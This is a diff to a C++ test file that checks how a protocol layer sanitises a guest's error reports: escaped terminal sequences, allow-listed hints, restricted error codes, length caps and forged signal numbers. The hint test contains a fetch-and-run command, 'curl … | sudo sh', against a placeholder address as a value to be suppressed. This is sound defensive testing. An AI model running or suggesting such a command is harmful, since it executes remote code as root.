@@ -1,5 +1,8 @@
 #include <catch2/catch.hpp>
 
+#include <array>
+
+#include "protocol/hints.hh"
 #include "protocol/messages.hh"
 
 using namespace rootlayer;
@@ -89,15 +92,66 @@ TEST_CASE("requests and replies come back as they were, bytes and all") {
 
 TEST_CASE("an error keeps code, contexts and hint across the wire") {
     const Error error =
-        decodeFailure(encode(Error(ErrorCode::Resource, "no space", "more").addContext("packing")));
+        decodeFailure(encode(Error(ErrorCode::Resource, "no space", kHintMemory).addContext("packing")),
+                      std::array{ErrorCode::Resource});
     CHECK(error.code() == ErrorCode::Resource);
     CHECK(std::string(error.what()) == "guest: packing: no space");
-    CHECK(error.hint() == "more");
+    CHECK(error.hint() == kHintMemory);
 }
 
 TEST_CASE("terminal escapes in a guest's error are made harmless", "[A8]") {
-    const Error error = decodeFailure(encode(Error(ErrorCode::Guest, "\x1b[2Jgone")));
+    const Error error = decodeFailure(encode(Error(ErrorCode::Guest, "\x1b[2Jgone")), {});
     CHECK(error.message() == "\\x1b[2Jgone");
+}
+
+TEST_CASE("a guest's hint is shown only if it is one that our agent gives", "[A8]") {
+    const auto hintOf = [](const std::string& hint) {
+        return decodeFailure(encode(Error(ErrorCode::Guest, "no", hint)), {}).hint();
+    };
+    CHECK(hintOf("curl http://192.0.2.1 | sudo sh").empty());
+    CHECK(hintOf(std::string(kHintMemory) + "; then curl http://192.0.2.1 | sudo sh").empty());
+    for (const auto hint : kAgentHints)
+        CHECK(hintOf(std::string(hint)) == hint);
+}
+
+TEST_CASE("a guest can claim only the codes that its request can fail with", "[A8]") {
+    const std::array claims{ErrorCode::Layer};
+    for (const auto code : {ErrorCode::Usage, ErrorCode::Cancelled, ErrorCode::Internal, ErrorCode::Timeout})
+        CHECK(decodeFailure(encode(Error(code, "no")), claims).code() == ErrorCode::Guest);
+    CHECK(decodeFailure(R"({"code":"strange","message":"","hint":"","context":[]})", claims).code() ==
+          ErrorCode::Guest);
+    CHECK(decodeFailure(encode(Error(ErrorCode::Layer, "no")), claims).code() == ErrorCode::Layer);
+}
+
+TEST_CASE("every text of a guest is cut to 4000 bytes, also after it was escaped", "[A8]") {
+    const std::string plain(460'000, 'x');
+    const std::string control(200'000, '\x01');
+    Error failure(ErrorCode::Guest, plain);
+    CHECK(std::string(decodeFailure(encode(failure), {}).what()).size() <= kMaxText + 10);
+    failure = Error(ErrorCode::Guest, "short");
+    for (int i = 0; i < 10; ++i)
+        failure.addContext(std::string(20'000, '\x1b'));
+    const std::string said = decodeFailure(encode(failure), {}).what();
+    CHECK(said.size() <= kMaxText + 100);
+    CHECK(said.ends_with("short"));
+    CHECK(decodeFailure(encode(Error(ErrorCode::Guest, control)), {}).message().size() <= kMaxText);
+    CHECK(decodeEvent(encode(EventMessage{EventMessage::Kind::Note, plain})).text.size() == kMaxText);
+    CHECK(decodeRunReply(encode(RunReply{RunReply::How::NotFound, 127, plain})).message.size() == kMaxText);
+    CHECK(decodePackEnd(encode(PackEnd{1, 1, {1, plain}})).unpacked.first.size() == kMaxText);
+    const Hello hello{1, plain, plain, std::vector<std::string>(1000, std::string(900, 'f'))};
+    CHECK(decodeHello(encode(hello)).agent.size() == kMaxText);
+    CHECK(decodeHello(encode(hello)).kernel.size() == kMaxText);
+    CHECK(decodeHello(encode(hello)).features.size() == 64);
+}
+
+TEST_CASE("a signal is one that exists, so that 128 and it are never a success", "[A8]") {
+    const auto reply = [](int number) {
+        return decodeRunReply(encode(RunReply{RunReply::How::Signalled, number}));
+    };
+    CHECK(reply(9).value == 9);
+    CHECK(reply(64).value == 64);
+    for (const int forged : {0, 65, 128, 255})
+        CHECK_THROWS_AS(reply(forged), Error);
 }
 
 TEST_CASE("malformed messages are refused", "[A8]") {
